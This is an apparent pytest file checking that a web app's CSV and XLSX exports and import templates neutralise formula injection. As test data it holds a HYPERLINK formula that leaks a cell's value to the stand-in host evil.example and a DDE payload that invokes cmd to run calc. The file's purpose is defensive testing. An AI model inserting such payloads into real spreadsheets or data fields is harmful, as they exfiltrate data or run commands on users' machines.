"""Every CSV and XLSX the app writes keeps formula-like text as text (issue 11, item 4)."""
import csv
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from calendar_app.indicators import exports, rollup
from calendar_app.spreadsheets import csv_bytes, csv_cell, plain_text_sheet
from tests.participation_fixtures import frozen_fixture, login, world_fixture  # noqa: F401
from tests.test_indicators import NOW, build

EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"Xem chi tiết")'


def formulas_in(xlsx: bytes) -> list[str]:
    """The parts of a workbook that hold a formula (<f> elements)."""
    archive = zipfile.ZipFile(io.BytesIO(xlsx))
    return [name for name in archive.namelist() if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)]


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+84 912", "'+84 912"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("Đọc sách", "Đọc sách"), ("a=b", "a=b"), ("", ""),
    (-5, -5), (-4.5, -4.5), (0, 0), (None, None),
])
def test_csv_cells(value, written):
    assert csv_cell(value) == written


def test_numbers_stay_numbers_in_both_formats():
    assert csv_bytes([["a", "b"], [-3, "-3"]]) == b"a,b\r\n-3,'-3\r\n"
    book = Workbook()
    book.active.append([-3, EVIL, "@x"])
    plain_text_sheet(book.active)
    number, formula, at = book.active[1]
    assert (number.data_type, number.value) == ("n", -3)
    assert (formula.data_type, formula.value, formula.quotePrefix) == ("s", EVIL, True)
    assert (at.data_type, at.quotePrefix) == ("s", True)


def test_the_import_templates_keep_a_formula_title_as_text(db, world, client):
    world["club"].title = EVIL
    db.session.commit()
    login(client, "ed@example.org")
    response = client.get("/participation/import/template-attendance.xlsx")
    assert response.status_code == 200 and formulas_in(response.data) == []
    rows = list(load_workbook(io.BytesIO(response.data)).active.iter_rows())
    titles = [row[3] for row in rows[1:]]
    assert titles and all(cell.value == EVIL and cell.data_type == "s" for cell in titles)
    text = client.get("/participation/import/template-attendance.csv").data.decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(text)))
    assert all(line[3] == "'" + EVIL for line in lines[1:])
    # the neutralised file goes back in unchanged: the title column is only there to help
    filled = [lines[0]] + [line[:4] + ["7"] + line[5:] for line in lines[1:]]
    upload = client.post("/participation/import", data={
        "kind": "attendance", "file": (io.BytesIO(csv_bytes(filled, byte_order_mark=True)), "a.csv")})
    assert upload.status_code == 302


@pytest.fixture()
def province(db, monkeypatch):
    monkeypatch.setattr(rollup, "utcnow", lambda: NOW)
    built = build()
    built["b"].name = "@SUM(1+1)*cmd|' /C calc'!A0"
    built["memorial-b"].name = "=1+2"
    db.session.commit()
    return built


def test_the_report_keeps_names_as_text_and_numbers_as_numbers(province):
    report = rollup.compute(2025, province["province"], now=NOW)
    lines = list(csv.DictReader(io.StringIO(exports.render(report, "csv").decode())))
    growth = next(line for line in lines if line["indicator"] == "library_users_growth" and line["area"] == "002")
    assert growth["area_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0" and growth["value"] == "-45.0"
    assert {line["institution_name"] for line in lines if line["institution"] == "memorial-b"} == {"'=1+2"}
    xlsx = exports.render(report, "xlsx")
    assert formulas_in(xlsx) == []
    cells = [cell for sheet in load_workbook(io.BytesIO(xlsx)).worksheets for row in sheet.iter_rows()
             for cell in row]
    names = [cell for cell in cells if cell.value in ("=1+2", "@SUM(1+1)*cmd|' /C calc'!A0")]
    assert names and all(cell.data_type == "s" for cell in names)
    assert any(cell.value == -45.0 and cell.data_type == "n" for cell in cells)
